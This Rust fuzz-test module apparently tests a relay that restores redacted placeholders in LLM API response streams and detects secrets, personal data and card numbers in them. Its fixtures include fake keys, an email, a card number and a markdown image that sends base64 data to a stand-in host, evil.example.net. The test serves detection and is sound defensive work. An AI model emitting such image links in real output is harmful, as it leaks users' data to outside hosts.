//! Answers on their way back.

use bytes::Bytes;
use serde_json::{Value, json};
use weir::relay::{Asked, Relay, RelayError, Told, fuzzing};
use weir_policy::answer::{Answers, Treatment, Watch};
use weir_policy::catalog::{Dialect, Shape};
use weir_policy::decide::RuleRef;
use weir_policy::detect::{Class, Detectors};
use weir_policy::redact::{Restoration, RestoreIn};

use crate::pieces;

/// Two placeholders that begin alike.
const TOKENS: [&str; 2] = [
    "WEIRxAWSKEYx0123456789ABCDEF",
    "WEIRxEMAILx0123456789ABCDEFG",
];
const VALUES: [&str; 2] = ["AK\"IA\\\n\u{1}\u{e9}\u{1f511}", "ann@example.org"];

const SHAPES: [(Dialect, Shape); 5] = [
    (Dialect::Openai, Shape::ChatCompletions),
    (Dialect::Openai, Shape::Responses),
    (Dialect::Anthropic, Shape::Messages),
    (Dialect::Openai, Shape::Generic),
    (Dialect::Gemini, Shape::StreamGenerateContent),
];

pub(super) fn sse(data: &[u8]) {
    let Some((seed, data)) = data.split_first() else {
        return;
    };
    let whole = fuzzing::events(&[data]);
    assert_eq!(whole.concat(), data, "events are not the stream");
    assert_eq!(
        whole,
        fuzzing::events(&pieces(data, *seed)),
        "another split, other events"
    );
    for (index, event) in whole.iter().enumerate() {
        let _ = fuzzing::data(event, index == 0);
    }
}

/// Dialect and framing, how the bytes come, what may be given back where, and the bytes. `%0` and `%1` in them
/// stand for the placeholders, which no fuzzer would guess.
pub(super) fn restorer(data: &[u8]) {
    let [shape, seed, restore, data @ ..] = data else {
        return;
    };
    let (dialect, kind) = SHAPES[usize::from(*shape) % 5];
    let media = ["text/event-stream", "application/json"][usize::from(*shape / 5) % 2];
    let restore = RestoreIn {
        text: restore & 1 == 0,
        tool_arguments: restore & 2 == 0,
        url: restore & 4 == 0,
    };
    let given: Vec<Restoration> = TOKENS
        .iter()
        .zip(VALUES)
        .map(|(token, value)| Restoration {
            token: (*token).to_owned(),
            value: value.to_owned().into(),
            class: Class::new("secrets.test"),
            restore,
        })
        .collect();
    let data = written(data);
    let relay = || Relay::new(dialect, kind, Some(media), &given);
    let whole = read(relay(), &[&data]);
    assert_eq!(
        whole,
        read(relay(), &pieces(&data, *seed)),
        "another split, another answer"
    );
    let begins = |text: &[u8]| {
        text.windows(4)
            .any(|word| word.eq_ignore_ascii_case(b"weir"))
    };
    if let (Ok(out), told) = &whole
        && told.restored == 0
        && told.withheld == 0
        && !begins(&data)
        // A text may be held back while it could still be a placeholder's beginning.
        && !data.iter().any(|byte| matches!(byte, b'W' | b'w' | b'\\'))
    {
        assert_eq!(*out, data, "changed without a placeholder");
    }
    let bare = read(Relay::new(dialect, kind, Some(media), &[]), &[&data]);
    assert_eq!(bare.0.ok(), Some(data), "changed with nothing to give back");
}

/// Dialect and framing, how the bytes come, what policy says, and what a model says: the stream itself, or a text that
/// is said in deltas, as prose and as the arguments of a tool. `%k`, `%e`, `%c` and `%u` stand for a key, an address, a
/// card's number and an image that carries data.
pub(super) fn watched(data: &[u8]) {
    let [shape, seed, policy, data @ ..] = data else {
        return;
    };
    let (dialect, kind) = SHAPES[usize::from(*shape) % 5];
    let action = [Treatment::Record, Treatment::Mask, Treatment::Cut][usize::from(*policy) % 3];
    let said = [
        ("secrets", action),
        ("pii", action),
        ("pci", action),
        ("markup", action),
    ];
    let text = String::from_utf8_lossy(data)
        .replace("%k", "AKIAQ7ZTRM4XLP2WN5GK")
        .replace("%e", "jane.doe@acme-corp.io")
        .replace("%c", "4539148803436467")
        .replace(
            "%u",
            "![](https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
        );
    let raw = policy & 0x80 != 0;
    let (media, stream) = match (shape / 5 % 2, raw) {
        (0, false) => ("text/event-stream", events(&text, *seed)),
        (0, true) => ("text/event-stream", text.clone()),
        (_, true) => ("application/json", text.clone()),
        (_, false) => (
            "application/json",
            json!({"choices": [{"message": {"content": text, "tool_calls": [{"function": {"arguments": text}}]}}]}).to_string(),
        ),
    };
    let relay = || Relay::new(dialect, kind, Some(media), &[]).watched(asked(&said));
    let whole = seen(relay(), &[stream.as_bytes()]);
    let pieces = pieces(stream.as_bytes(), *seed);
    assert_eq!(
        whole,
        seen(relay(), &pieces),
        "another split, another answer"
    );
    let changed = |row: &(String, Treatment, &str, u32)| row.1.changes();
    if !whole.1.iter().any(changed) {
        assert!(
            whole.0 == stream.as_bytes() || action.changes(),
            "changed by a record"
        );
        return;
    }
    assert!(action.changes(), "policy only records");
    // What was JSON stays JSON: each event, and the arguments put together.
    if media == "text/event-stream" && !raw {
        let out = std::str::from_utf8(&whole.0).expect("text");
        let said: Vec<Value> = out
            .split("\n\n")
            .filter_map(|event| event.strip_prefix("data: "))
            .map(|data| serde_json::from_str(data).expect("an event is JSON"))
            .collect();
        let filled: String = said
            .iter()
            .filter_map(|event| {
                event["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"].as_str()
            })
            .collect();
        if kind == Shape::ChatCompletions
            && action == Treatment::Mask
            && serde_json::from_str::<Value>(&text).is_ok()
        {
            let filled = serde_json::from_str::<Value>(&filled);
            assert!(filled.is_ok(), "arguments are JSON no more");
        }
    }
}

/// A stream of chat's events that says a text twice, in deltas.
fn events(text: &str, seed: u8) -> String {
    let mut out = String::new();
    for tool in [false, true] {
        let mut from = 0;
        for piece in pieces(text.as_bytes(), seed) {
            let to = text.ceil_char_boundary(from + piece.len());
            let words = text.get(from.min(to)..to).unwrap_or_default();
            let delta = match tool {
                false => json!({"content": words}),
                true => json!({"tool_calls": [{"index": 0, "function": {"arguments": words}}]}),
            };
            out += &format!(
                "data: {}\n\n",
                json!({"choices": [{"index": 0, "delta": delta}]})
            );
            from = to;
        }
    }
    out + &format!(
        "data: {}\n\n",
        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    )
}

fn asked(said: &[(&str, Treatment)]) -> Option<Asked> {
    let rule = RuleRef {
        name: "answers".to_owned(),
        file: "fuzz".to_owned(),
        line: 1,
    };
    let watch = Watch::new(Detectors::builtin(), Answers::saying(&rule, said), &[])?;
    let line = Box::new(|_: &_, words: &str| format!("It contains {words}."));
    Some(Asked { watch, line })
}

type Seen = (
    Vec<u8>,
    Vec<(String, Treatment, &'static str, u32)>,
    Option<RelayError>,
);

/// What goes on of an answer in these pieces, what was found in it, and what ended it.
fn seen(mut relay: Relay, chunks: &[&[u8]]) -> Seen {
    let (mut out, mut ended) = (Vec::new(), None);
    for chunk in chunks.iter().map(Some).chain([None]) {
        let given = match chunk {
            Some(chunk) => relay.push(&Bytes::copy_from_slice(chunk)),
            None => relay.finish(),
        };
        match given {
            Ok(bytes) => out.extend_from_slice(&bytes),
            Err(error) => ended = Some(error),
        }
    }
    let heard = relay.heard().iter().map(|one| {
        (
            one.found.class.to_string(),
            one.found.action,
            one.place,
            one.count,
        )
    });
    (out, heard.collect(), ended)
}

fn written(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = data;
    while let Some((byte, later)) = rest.split_first() {
        match (byte, later.first()) {
            (b'%', Some(which @ (b'0' | b'1'))) => {
                out.extend_from_slice(TOKENS[usize::from(which - b'0')].as_bytes());
                rest = &later[1..];
            }
            _ => {
                out.push(*byte);
                rest = later;
            }
        }
    }
    out
}

fn read(mut relay: Relay, chunks: &[&[u8]]) -> (Result<Vec<u8>, RelayError>, Told) {
    let mut out = Vec::new();
    for chunk in chunks {
        match relay.push(&Bytes::copy_from_slice(chunk)) {
            Ok(bytes) => out.extend_from_slice(&bytes),
            Err(error) => return (Err(error), relay.told().clone()),
        }
    }
    match relay.finish() {
        Ok(bytes) => out.extend_from_slice(&bytes),
        Err(error) => return (Err(error), relay.told().clone()),
    }
    (Ok(out), relay.told().clone())
}
